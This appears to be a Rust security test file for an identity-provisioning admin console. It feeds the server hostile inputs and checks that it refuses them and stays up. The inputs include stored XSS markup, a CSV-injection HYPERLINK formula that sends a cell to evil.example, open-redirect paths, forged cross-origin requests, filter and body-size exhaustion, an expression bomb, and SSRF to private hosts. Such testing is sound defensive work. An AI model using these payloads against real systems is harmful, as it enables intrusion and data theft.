//! Hostile input against the real binary: each test is a probe that once took over, crashed or
//! exhausted the console, and now must get a clear refusal while the console stays up. The
//! browser's side of the same probes (no injected script runs) is end2end's hostile journey.

use std::time::{Duration, Instant};

use engine::audit::Caller;
use http::StatusCode;
use reqwest::header;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::harness::{Console, PASSWORD};

/// Markup an attacker stores in a name, hoping it reaches a page unescaped.
const MARKUP: &str = "</title><script src=//127.0.0.1:9/x.js></script><img src=x onerror=alert(1)>";

/// A client that sends the given API token.
fn api(console: &Console, upn: &str) -> reqwest::Client {
    let token = console.token(upn, &["api", "scim"]);
    console.scim(&token)
}

async fn healthy(console: &Console) -> Duration {
    let started = Instant::now();
    let answer = reqwest::Client::new()
        .get(console.url("/healthz"))
        .timeout(Duration::from_secs(10))
        .send()
        .await
        .expect("the console still answers");
    assert_eq!(answer.status(), StatusCode::OK);
    started.elapsed()
}

fn no_panic_in(console: &Console) {
    let log = console.log.lock().unwrap();
    assert!(
        !log.iter().any(|line| line.contains("panicked")),
        "the server panicked:\n{}",
        log.join("\n")
    );
}

#[tokio::test]
async fn a_stored_name_with_markup_stays_text_and_scripts_need_the_responses_nonce() {
    let console = Console::start();
    let browser = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    let (id, _) = application(&console, &api(&console, "admin@contoso.com"), MARKUP).await;

    for path in [format!("/applications/{id}"), "/applications".to_owned()] {
        let page = browser.get(console.url(&path)).send().await.unwrap();
        assert_eq!(page.status(), StatusCode::OK, "{path}");
        let policy = page
            .headers()
            .get(header::CONTENT_SECURITY_POLICY)
            .expect("every page has a policy")
            .to_str()
            .unwrap()
            .to_owned();
        let html = page.text().await.unwrap();
        assert!(
            !html.contains("<script src=//127.0.0.1:9"),
            "{path}: {html}"
        );
        assert!(!html.contains("<img src=x onerror"), "{path}");
        if path.contains(&id) {
            assert!(
                html.contains("<title>&lt;/title&gt;&lt;script"),
                "the title is escaped: {html}"
            );
        }
        // Scripts run only with this response's nonce, and every script of ours carries it.
        let nonce = policy
            .split("'nonce-")
            .nth(1)
            .and_then(|rest| rest.split('\'').next())
            .expect("the policy names a nonce");
        assert!(policy.contains("script-src 'self' 'nonce-"), "{policy}");
        let script_src = policy
            .split(';')
            .map(str::trim)
            .find(|d| d.starts_with("script-src"))
            .unwrap();
        assert!(
            !script_src.contains("'unsafe-inline'") && !script_src.contains("'unsafe-eval'"),
            "{policy}"
        );
        let scripts = html.matches("<script").count();
        assert!(scripts > 0, "{path} hydrates");
        assert_eq!(
            html.matches(&format!("<script nonce=\"{nonce}\"")).count()
                + html
                    .matches(&format!("<script type=\"module\" nonce=\"{nonce}\""))
                    .count(),
            scripts,
            "{path}: every script carries the nonce"
        );
    }
    let policy = || async {
        browser
            .get(console.url("/applications"))
            .send()
            .await
            .unwrap()
            .headers()
            .get(header::CONTENT_SECURITY_POLICY)
            .unwrap()
            .clone()
    };
    assert_ne!(
        policy().await,
        policy().await,
        "a fresh nonce for every response"
    );
}

#[tokio::test]
async fn exported_cells_cannot_run_as_formulas_and_import_back_exactly() {
    let console = Console::start();
    let browser = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let created = api(&console, "admin@contoso.com")
        .post(console.url("/scim/v2/Users"))
        .json(&json!({
            "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
            "userName": "mallory@contoso.com",
            "displayName": formula,
            "name": { "givenName": "@SUM(1+1)", "familyName": "-2+3" },
            "phoneNumbers": [{ "type": "work", "value": "+1 555 0100" }],
            "active": true
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), StatusCode::CREATED);

    let export = browser
        .get(console.url("/users/export.csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(export.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let mallory = reader
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == "mallory@contoso.com")
        .expect("exported");
    let cell = |name: &str| mallory[headers.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("displayName"), format!("'{formula}"));
    assert_eq!(cell("givenName"), "'@SUM(1+1)");
    assert_eq!(cell("surname"), "'-2+3");
    assert_eq!(cell("telephoneNumber"), "'+1 555 0100");
    for record in csv::Reader::from_reader(export.as_bytes()).records() {
        for value in record.unwrap().iter() {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{value:?}"
            );
        }
    }

    // The file imports back to exactly what was exported.
    let engine = console.engine().await;
    let report = engine
        .import_users(&Caller::system(), &export, |_| {})
        .await
        .unwrap();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let user = engine::directory::users::find_by_upn(&engine.db, "mallory@contoso.com")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(user.profile.display_name, formula);
    assert_eq!(user.profile.given_name.as_deref(), Some("@SUM(1+1)"));
    assert_eq!(user.profile.surname.as_deref(), Some("-2+3"));
    assert_eq!(
        user.profile.telephone_number.as_deref(),
        Some("+1 555 0100")
    );
}

#[tokio::test]
async fn sign_in_returns_only_to_same_origin_paths() {
    let console = Console::start();
    assert!(
        console
            .admin_create("admin@contoso.com", "Global Administrator", PASSWORD)
            .status
            .success()
    );
    for (next, expected) in [
        ("/users", "/users"),
        ("/\t/evil.example", "/"),
        ("//evil.example", "/"),
        ("/\\evil.example", "/"),
        ("/\n", "/"),
        ("https://evil.example/", "/"),
    ] {
        let browser = console.browser();
        let answer = browser
            .post(console.url("/api/sign_in"))
            .form(&[
                ("user_principal_name", "admin@contoso.com"),
                ("password", PASSWORD),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        let location = answer
            .headers()
            .get(header::LOCATION)
            .map(|l| l.to_str().unwrap().to_owned());
        assert_eq!(location.as_deref(), Some(expected), "next={next:?}");
    }
    no_panic_in(&console);
}

#[tokio::test]
async fn a_bearer_header_does_not_open_cookie_routes_to_other_origins() {
    let console = Console::start();
    let browser = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    let forged = browser
        .post(console.url("/api/applications/create"))
        .header(header::ORIGIN, "http://evil.example")
        .header(header::AUTHORIZATION, "Bearer anything")
        .form(&[("template", "custom-scim"), ("display_name", "Forged")])
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);
    let listed: Value = api(&console, "admin@contoso.com")
        .get(console.url("/api/v1/applications"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(listed, json!([]), "nothing was created");
}

#[tokio::test]
async fn hostile_scim_filters_get_400_invalid_filter_and_the_console_stays_up() {
    let console = Console::start();
    console.admin_create("admin@contoso.com", "Global Administrator", PASSWORD);
    let scim = api(&console, "admin@contoso.com");
    let nested = format!("{}userName pr{}", "not (".repeat(2000), ")".repeat(2000));
    let many_or = vec!["userName eq \"a\""; 3000].join(" or ");
    // About 1 MB: the largest filter a request can carry (bodies stop at 1 MiB, URIs at 64 KB).
    let huge = format!("userName eq \"{}\"", "a".repeat(1_000_000));
    let cases = [
        ("2,000 nested not (", nested.as_str()),
        ("3,000 or terms", many_or.as_str()),
        ("a 1 MB filter", huge.as_str()),
        ("a non-ASCII attribute", "é eq \"x\""),
        ("a non-ASCII URN", "urn:é:x eq \"x\""),
    ];
    let search = |filter: &str| {
        scim.post(console.url("/scim/v2/Users/.search"))
            .json(&json!({
                "schemas": ["urn:ietf:params:scim:api:messages:2.0:SearchRequest"],
                "filter": filter,
            }))
            .send()
    };
    for (what, filter) in cases {
        let started = Instant::now();
        let answer = search(filter).await.unwrap();
        let elapsed = started.elapsed();
        let status = answer.status();
        let body: Value = answer.json().await.unwrap_or(Value::Null);
        assert_eq!(status, StatusCode::BAD_REQUEST, "{what}: {body}");
        assert_eq!(body["scimType"], "invalidFilter", "{what}: {body}");
        assert!(elapsed < Duration::from_secs(5), "{what} took {elapsed:?}");
    }
    // The same through the query string, as far as a URI goes.
    let long_get = scim
        .get(console.url("/scim/v2/Users"))
        .query(&[("filter", &huge[..60_000])])
        .send()
        .await
        .unwrap();
    assert_eq!(long_get.status(), StatusCode::BAD_REQUEST);
    let sorted = scim
        .get(console.url("/scim/v2/Users"))
        .query(&[("sortBy", "é"), ("filter", "userName pr")])
        .send()
        .await
        .unwrap();
    assert_eq!(sorted.status(), StatusCode::BAD_REQUEST);

    // Two 1 MB filters at once do not hold up the probes.
    let (a, b, probe) = tokio::join!(search(&huge), search(&huge), async {
        tokio::time::sleep(Duration::from_millis(20)).await;
        healthy(&console).await
    });
    assert_eq!(a.unwrap().status(), StatusCode::BAD_REQUEST);
    assert_eq!(b.unwrap().status(), StatusCode::BAD_REQUEST);
    assert!(probe < Duration::from_secs(2), "/healthz took {probe:?}");
    no_panic_in(&console);
}

/// Sends a request head declaring `length` bytes of body, then nothing, and reads the answer:
/// a limit checked before reading answers at once.
async fn declare_body(console: &Console, path: &str, length: u64) -> String {
    let address = console.base.trim_start_matches("http://").to_owned();
    let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {address}\r\nOrigin: {}\r\nContent-Type: \
         application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n",
        console.base
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut answer = vec![0u8; 1024];
    let read = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut answer))
        .await
        .expect("answered without waiting for the body")
        .unwrap();
    String::from_utf8_lossy(&answer[..read]).into_owned()
}

#[tokio::test]
async fn bodies_over_a_routes_limit_are_refused_before_they_are_read() {
    let console = Console::start();
    console.admin_create("admin@contoso.com", "Global Administrator", PASSWORD);
    for (path, length) in [
        ("/api/sign_in", 62 * 1024 * 1024),
        ("/api/sign_in", 9 * 1024),
        ("/api/applications/create", 2 * 1024 * 1024),
        ("/scim/v2/Users", 2 * 1024 * 1024),
        ("/users/import", 60 * 1024 * 1024),
    ] {
        let answer = declare_body(&console, path, length).await;
        assert!(
            answer.starts_with("HTTP/1.1 413"),
            "{path} with {length} bytes: {answer}"
        );
    }
    // A body without a declared length is cut off at the limit as it streams in.
    let address = console.base.trim_start_matches("http://").to_owned();
    let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
    let head = format!(
        "POST /api/sign_in HTTP/1.1\r\nHost: {address}\r\nOrigin: {}\r\nContent-Type: \
         application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n",
        console.base
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    for _ in 0..64 {
        let chunk = format!("400\r\n{}\r\n", "a".repeat(1024));
        if stream.write_all(chunk.as_bytes()).await.is_err() {
            break; // the server stopped reading
        }
    }
    let _ = stream.write_all(b"0\r\n\r\n").await;
    let mut answer = vec![0u8; 1024];
    let read = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut answer))
        .await
        .unwrap()
        .unwrap_or(0);
    let answer = String::from_utf8_lossy(&answer[..read]).into_owned();
    assert!(
        answer.starts_with("HTTP/1.1 4") || answer.starts_with("HTTP/1.1 5"),
        "a 64 KB chunked sign-in: {answer}"
    );
    // An ordinary sign-in still fits.
    let browser = console.browser();
    let signed = console
        .sign_in(&browser, "admin@contoso.com", PASSWORD)
        .await;
    assert!(!signed.status().is_client_error(), "{}", signed.status());
    assert_eq!(
        console.me(&browser).await["user_principal_name"],
        "admin@contoso.com"
    );
}

#[tokio::test]
async fn downloads_neither_stall_the_database_nor_break_under_gzip() {
    use engine::sync::log::generator::Spec;
    let console = Console::start();
    let admin = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    console
        .application_with_logs(
            &admin,
            Spec {
                entries: 20_000,
                days: 3,
                seed: 5,
            },
        )
        .await;

    // Under gzip, both downloads arrive whole (the last chunk used to panic the compressor).
    for format in ["csv", "json"] {
        let answer = admin
            .get(console.url(&format!("/provisioning-logs/download.{format}")))
            .header(header::ACCEPT_ENCODING, "gzip")
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), StatusCode::OK);
        assert_eq!(
            answer.headers().get(header::CONTENT_ENCODING).unwrap(),
            "gzip"
        );
        let bytes = answer.bytes().await.expect("the download arrives whole");
        assert!(bytes.len() > 1000, "{format}: {} bytes", bytes.len());
    }
    no_panic_in(&console);

    // Downloads left unread by several accounts hold their own connections, never the probes'.
    let mut held = Vec::new();
    for n in 0..4 {
        let reader = console
            .signed_in(&format!("reader{n}@contoso.com"), "Reports Reader")
            .await;
        for _ in 0..2 {
            let answer = reader
                .get(console.url("/provisioning-logs/download.json"))
                .send()
                .await
                .unwrap();
            assert_eq!(answer.status(), StatusCode::OK);
            held.push(answer);
        }
        // A third at once from the same account waits its turn.
        let third = reader
            .get(console.url("/provisioning-logs/download.csv"))
            .send()
            .await
            .unwrap();
        assert_eq!(third.status(), StatusCode::TOO_MANY_REQUESTS);
    }
    for _ in 0..5 {
        let started = Instant::now();
        let ready = reqwest::Client::new()
            .get(console.url("/readyz"))
            .timeout(Duration::from_secs(10))
            .send()
            .await
            .unwrap();
        assert_eq!(ready.status(), StatusCode::OK);
        assert!(
            started.elapsed() < Duration::from_secs(2),
            "{:?}",
            started.elapsed()
        );
        let page = admin.get(console.url("/users")).send().await.unwrap();
        assert_eq!(page.status(), StatusCode::OK);
    }
    drop(held);
}

/// Answers every request on a loopback port with HTTP `status` and `body`, as a service that is
/// not a SCIM server would.
async fn answering(status: u16, body: &'static str) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut request = vec![0u8; 8192];
                let _ = stream.read(&mut request).await;
                let answer = format!(
                    "HTTP/1.1 {status} Whatever\r\nContent-Type: application/json\r\n\
                     Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    format!("http://{address}/scim/v2")
}

/// A "Create your own application" made over the REST API: its id and provisioning configuration.
async fn application(console: &Console, client: &reqwest::Client, name: &str) -> (String, Value) {
    let created: Value = client
        .post(console.url("/api/v1/applications"))
        .json(&json!({ "template": "custom-scim", "displayName": name }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = created["id"].as_str().expect("created").to_owned();
    let config = client
        .get(console.url(&format!("/api/v1/applications/{id}/provisioning")))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    (id, config)
}

async fn test_connection(console: &Console, client: &reqwest::Client, tenant_url: &str) -> Value {
    let (id, config) = application(console, client, "Probe").await;
    let mut settings = config["settings"].clone();
    settings["scimBaseUrl"] = json!(tenant_url);
    let saved = client
        .put(console.url(&format!("/api/v1/applications/{id}/provisioning")))
        .json(&json!({ "version": config["version"], "settings": settings, "secretToken": "a-token" }))
        .send()
        .await
        .unwrap();
    let saved_status = saved.status();
    let saved: Value = saved.json().await.unwrap();
    if !saved_status.is_success() {
        return saved;
    }
    client
        .post(console.url(&format!("/api/v1/applications/{id}/job/test-connection")))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap()
}

#[tokio::test]
async fn private_targets_are_refused_by_default_and_no_answer_body_is_repeated() {
    const SECRET: &str = "internal-only-9f3e";
    let leaky = answering(500, "{\"detail\":\"internal-only-9f3e\",\"hint\":\"x\"}").await;
    let html = answering(401, "<html>internal-only-9f3e admin page</html>").await;

    let strict = Console::start_with(&[]);
    strict.admin_create("admin@contoso.com", "Global Administrator", PASSWORD);
    let client = api(&strict, "admin@contoso.com");
    for url in [
        leaky.as_str(),
        "http://localhost:1/scim/v2",
        "http://[::1]:1/scim/v2",
    ] {
        let answer = test_connection(&strict, &client, url).await;
        let text = answer.to_string();
        assert!(text.contains("--allow-private-targets"), "{url}: {text}");
        assert!(!text.contains(SECRET), "{url}: {text}");
    }

    let open = Console::start();
    open.admin_create("admin@contoso.com", "Global Administrator", PASSWORD);
    let client = api(&open, "admin@contoso.com");
    for url in [&leaky, &html] {
        let answer = test_connection(&open, &client, url).await;
        assert_eq!(answer["success"], false, "{answer}");
        let message = answer["message"].as_str().unwrap();
        assert!(!message.contains(SECRET), "{message}");
        assert!(message.contains("not a SCIM error"), "{message}");
    }
}

#[tokio::test]
async fn the_data_directory_is_the_owners_alone_and_sessions_are_stored_hashed() {
    use std::os::unix::fs::PermissionsExt;
    let console = Console::start();
    let browser = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    let mode = |name: &str| {
        std::fs::metadata(console.data_dir.path().join(name))
            .unwrap()
            .permissions()
            .mode()
            & 0o777
    };
    // On PostgreSQL the data directory holds only the key; the database's files are its own.
    let sqlite = console.database_url.is_none();
    let database_files: &[&str] = if sqlite {
        &["scimitar.db", "scimitar.db-wal", "scimitar.db-shm"]
    } else {
        &[]
    };
    assert_eq!(mode(""), 0o700);
    for file in database_files.iter().chain(&["secret.key"]) {
        assert_eq!(mode(file), 0o600, "{file}");
    }

    // The cookie's session id is nowhere in the database's files.
    let cookie = browser
        .get(console.url("/"))
        .send()
        .await
        .unwrap()
        .headers()
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect::<Vec<_>>();
    let id = cookie
        .iter()
        .find_map(|c| c.strip_prefix("scimitar_session="))
        .and_then(|c| c.split(';').next())
        .expect("the session cookie is renewed on each request")
        .to_owned();
    let engine = console.engine().await;
    let stored: Vec<String> = engine::db::query_scalar("SELECT id FROM sessions")
        .fetch_all(&engine.db)
        .await
        .unwrap();
    assert!(!stored.is_empty());
    assert!(!stored.contains(&id), "{id} stored as it is");
    for file in database_files.iter().take(2) {
        let bytes = std::fs::read(console.data_dir.path().join(file)).unwrap();
        assert!(
            !bytes.windows(id.len()).any(|w| w == id.as_bytes()),
            "{file} holds the cookie's id"
        );
    }
}

#[tokio::test]
async fn a_new_password_or_role_ends_the_accounts_other_sessions() {
    let console = Console::start();
    let admin = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    let elsewhere = console.browser();
    console
        .sign_in(&elsewhere, "admin@contoso.com", PASSWORD)
        .await;
    let ops = console
        .signed_in("ops@contoso.com", "Global Administrator")
        .await;
    let engine = console.engine().await;
    let id_of = |upn: &'static str| {
        let engine = engine.clone();
        async move {
            engine::directory::users::find_by_upn(&engine.db, upn)
                .await
                .unwrap()
                .unwrap()
                .id
                .to_string()
        }
    };
    let admin_id = id_of("admin@contoso.com").await;

    // Users > a user > console access, as the administrator's browser sends it.
    let set_access = |id: String, role: &'static str, password: &'static str| {
        admin
            .post(console.url("/api/users/access"))
            .form(&[
                ("id", id.as_str()),
                ("directory_role", role),
                ("password", password),
            ])
            .send()
    };

    // The administrator changes their own password: this session goes on, the other ends.
    let changed = set_access(
        admin_id,
        "Global Administrator",
        "another long enough password",
    )
    .await
    .unwrap();
    assert!(!changed.status().is_client_error(), "{}", changed.status());
    assert_eq!(
        console.me(&admin).await["user_principal_name"],
        "admin@contoso.com"
    );
    assert_eq!(
        console.me(&elsewhere).await,
        Value::Null,
        "the other session ended"
    );

    // Another administrator changes the role: every session of the account ends.
    let ops_id = id_of("ops@contoso.com").await;
    let demoted = set_access(ops_id, "Reports Reader", "").await.unwrap();
    assert!(!demoted.status().is_client_error(), "{}", demoted.status());
    assert_eq!(console.me(&ops).await, Value::Null);
}

#[tokio::test]
async fn a_new_smtp_host_forgets_the_smtp_password() {
    let console = Console::start();
    let admin = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    let save = |host: &'static str, password: &'static str| {
        admin
            .post(console.url("/api/settings/email/save"))
            .form(&[
                ("host", host),
                ("port", "587"),
                ("security", "StartTls"),
                ("username", "mailer"),
                ("password", password),
                ("from_address", "scimitar@contoso.com"),
            ])
            .send()
    };
    let has_password = || async {
        let settings: Value = admin
            .post(console.url("/api/settings/email"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        settings["has_password"].as_bool().unwrap()
    };
    assert!(
        save("smtp.contoso.com", "mail-password")
            .await
            .unwrap()
            .status()
            .is_success()
    );
    assert!(has_password().await);
    assert!(
        save("SMTP.contoso.com", "")
            .await
            .unwrap()
            .status()
            .is_success()
    );
    assert!(has_password().await, "the same host keeps it");
    assert!(
        save("smtp.evil.example", "")
            .await
            .unwrap()
            .status()
            .is_success()
    );
    assert!(!has_password().await, "a new host forgets it");
}

/// Nine nested `Replace`s, each turning every "a" of the one inside into ten (330 characters).
fn expression_bomb() -> String {
    let mut text = "[mail]".to_owned();
    for _ in 0..9 {
        text = format!("Replace({text}, \"a\", , , \"aaaaaaaaaa\", , )");
    }
    text
}

#[tokio::test]
async fn an_expression_that_could_explode_is_refused_in_the_editor_and_at_save() {
    let console = Console::start();
    let browser = console
        .signed_in("admin@contoso.com", "Global Administrator")
        .await;
    let bomb = expression_bomb();

    let checked: Value = browser
        .post(console.url("/api/provisioning/expression/check"))
        .form(&[("text", bomb.as_str()), ("object", "users")])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let reason = checked.as_str().expect("the editor refuses it");
    assert!(reason.contains("can produce up to"), "{reason}");
    assert!(reason.contains("65,536"), "{reason}");

    let client = api(&console, "admin@contoso.com");
    let (id, config) = application(&console, &client, "Payroll").await;
    let path = format!("/api/v1/applications/{id}/provisioning");
    let mut settings = config["settings"].clone();
    settings["users"]["mappings"]
        .as_array_mut()
        .unwrap()
        .push(json!({ "mappingType": "Expression", "source": bomb, "target": "nickName" }));
    let saved = client
        .put(console.url(&path))
        .json(&json!({ "version": config["version"], "settings": settings }))
        .send()
        .await
        .unwrap();
    assert_eq!(saved.status(), StatusCode::BAD_REQUEST);
    let error: Value = saved.json().await.unwrap();
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("can produce up to"),
        "{error}"
    );
    healthy(&console).await;
}
